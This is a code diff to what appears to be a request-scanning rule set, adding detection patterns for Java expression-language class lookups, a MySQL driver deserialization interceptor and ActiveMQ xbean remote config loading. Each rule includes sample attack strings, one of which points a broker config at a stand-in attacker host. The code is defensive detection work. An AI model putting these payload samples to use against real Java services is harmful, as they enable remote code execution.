@@ -16,6 +16,27 @@ function findNamedLookup({ name, lower }: Reading): Span | undefined {
 
 /** Java: class names where data belongs, OGNL and SpEL, gadget chains, Struts and Spring probes. */
 export const javaRules: readonly Rule[] = [
+  // Expression languages have the class of a number or a text, and the class of whatever they name from it.
+  pattern('java/literal-class', /(?:\b\d{1,3}|''|"")\.class\.forname\s{0,2}\(/, {
+    score: 5,
+    words: WORD.java,
+    attacks: ["x=1.class.forName('java.lang.Thread')", `''.class.forName("java.lang.Runtime")`],
+    benign: ["Main.class.forName('x')", 'a.class.getName()'],
+  }),
+  // What a driver reads objects from a server with, that the sender names.
+  pattern('java/reading-driver', /\bserverstatusdiffinterceptor\b/, {
+    score: 5,
+    words: WORD.java,
+    attacks: ['com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor'],
+    benign: ['com.mysql.cj.jdbc.Driver', 'ServerStatus'],
+  }),
+  // Where a broker is to load its configuration from.
+  pattern('java/broker-config', /\bxbean:(?:https?|ftp|jar):/, {
+    score: 5,
+    chars: CHAR.scheme,
+    attacks: ['static:(vm://x?brokerConfig=xbean:http://evil.example/a.xml)'],
+    benign: ['xbean:activemq.xml', 'xbean:file:conf/activemq.xml', 'vm://localhost'],
+  }),
   pattern(
     'java/class-name',
     /^\s{0,4}(?!javax\.faces\.(?:viewstate|partial|source|behavior|clientwindow|renderkitid|encodedurl|resource)|org\.apache\.struts\.taglib)(?:\w[\w.-]{0,40}\s{0,2}[=:]\s{0,2})?["'(]{0,2}(?:javax?\.(?:io|lang|script|naming|rmi|management|runtime|process\w{0,12}|beans|faces|el)|java\.runtime|javassist|com\.(?:opensymphony|sun\.(?:org|rowset|jndi|jmx))|org\.(?:apache\.(?:commons|struts2?|xalan|tomcat|catalina|logging|xbean|velocity|shiro|log4j|bcel)|springframework|omg|hibernate|codehaus|jboss|mozilla\.javascript|python\.core)|sun\.(?:misc|reflect|rmi))(?!\.[\w.$]{0,80}(?:exception|error|thread)\b)(?:\.[\w$]{1,48}){0,8}["')]{0,2}(?:\s{0,2}=\s{0,2}\w{0,24})?\s{0,4}$/,
